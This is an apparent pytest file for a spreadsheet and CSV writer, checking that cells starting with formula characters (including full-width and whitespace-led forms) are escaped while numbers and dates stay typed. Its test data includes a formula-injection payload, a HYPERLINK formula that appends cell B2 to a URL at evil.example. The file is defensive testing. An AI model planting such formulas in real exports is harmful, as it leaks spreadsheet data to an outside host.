"""The one spreadsheet and CSV writer: text never becomes a formula, numbers and dates stay."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from peerdiag.common import spreadsheets
from peerdiag.common.spreadsheets import (
    append,
    csv_bytes,
    csv_lines,
    neutralise,
    new_workbook,
    restore,
    workbook_bytes,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click me")'
DANGEROUS = [
    HYPERLINK,
    "@SUM(1)",
    "+1",
    "-1+1",
    "-5",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # spaces first
    "\u00a0@SUM(1)",  # a no-break space first
    "＝1+1",  # full-width equals
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = ["Ann Lee", "Social workers", "09:00-12:00", "Lee-Smith", "a=b", "", "'quoted", "1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_could_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text  # written twice, still one apostrophe
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_text_and_keeps_numbers_and_dates():
    data = csv_bytes(
        [
            ["Name", "Count", "Day"],
            [HYPERLINK, -5, date(2027, 3, 1)],
            ["-5", Decimal("-1.5"), datetime(2027, 3, 1, 9, 30)],
            ["+1", 2.5, time(13, 0)],
            ["@SUM(1)", None, "plain"],
        ]
    )
    assert _csv(data) == [
        ["Name", "Count", "Day"],
        ["'" + HYPERLINK, "-5", "2027-03-01"],
        ["'-5", "-1.5", "2027-03-01 09:30"],
        ["'+1", "2.5", "13:00"],
        ["'@SUM(1)", "", "plain"],
    ]


def test_csv_lines_stream_with_one_byte_order_mark():
    lines = list(csv_lines([["=1"], ["-1+1"]]))
    assert lines == ["\ufeff'=1\r\n", "'-1+1\r\n"]
    assert list(csv_lines([["a"]], bom=False)) == ["a\r\n"]


def test_a_bool_must_be_written_as_words():
    with pytest.raises(TypeError):
        csv_bytes([[True]])
    with pytest.raises(TypeError):
        append(new_workbook().create_sheet("x"), [False])


def _book(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def test_xlsx_text_is_text_and_numbers_and_dates_stay_typed():
    book = new_workbook()
    sheet = book.active
    assert sheet is not None
    append(sheet, ["Name", "Count", "When"])
    append(sheet, [HYPERLINK, -5, date(2027, 3, 1)])
    append(sheet, ["-5", 2.5, datetime(2027, 3, 1, 9, 30)])
    append(sheet, ["ok", None, Decimal("3")])
    cells = [list(r) for r in _book(workbook_bytes(book)).active.iter_rows()]
    assert [(c.value, c.data_type) for c in cells[1][:2]] == [("'" + HYPERLINK, "s"), (-5, "n")]
    assert cells[1][2].is_date and cells[1][2].value == datetime(2027, 3, 1)
    assert (cells[2][0].value, cells[2][0].data_type) == ("'-5", "s")
    assert cells[2][1].value == 2.5 and cells[2][1].data_type == "n"
    assert cells[2][2].is_date and cells[2][2].value == datetime(2027, 3, 1, 9, 30)
    assert cells[3][1].value is None and cells[3][2].value == 3
    assert all(c.data_type != "f" for row in cells for c in row)


def test_a_cell_written_round_the_writer_is_still_made_safe_when_saved():
    book = new_workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "=1+1"  # openpyxl alone would store this as a live formula
    sheet.append(["@SUM(1)", -3])
    assert sheet["A1"].data_type == "f"
    saved = _book(workbook_bytes(book)).active
    assert (saved["A1"].value, saved["A1"].data_type) == ("'=1+1", "s")
    assert (saved["A2"].value, saved["B2"].value, saved["B2"].data_type) == ("'@SUM(1)", -3, "n")


def test_every_sheet_is_checked():
    book = new_workbook()
    book.create_sheet("Second")["C3"] = "+1"
    saved = _book(workbook_bytes(book))
    assert saved["Second"]["C3"].value == "'+1" and saved["Second"]["C3"].data_type == "s"


def test_control_characters_an_xlsx_cannot_hold_are_left_out_rather_than_failing():
    book = new_workbook()
    sheet = book.active
    assert sheet is not None
    append(sheet, ["Ann\x07 Lee", "\x01=1+1"])
    saved = _book(workbook_bytes(book)).active
    assert saved["A1"].value == "Ann Lee"
    assert saved["B1"].value == "'=1+1" and saved["B1"].data_type == "s"


def test_leaders_include_the_full_width_forms():
    assert {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} <= spreadsheets.FORMULA_LEADERS
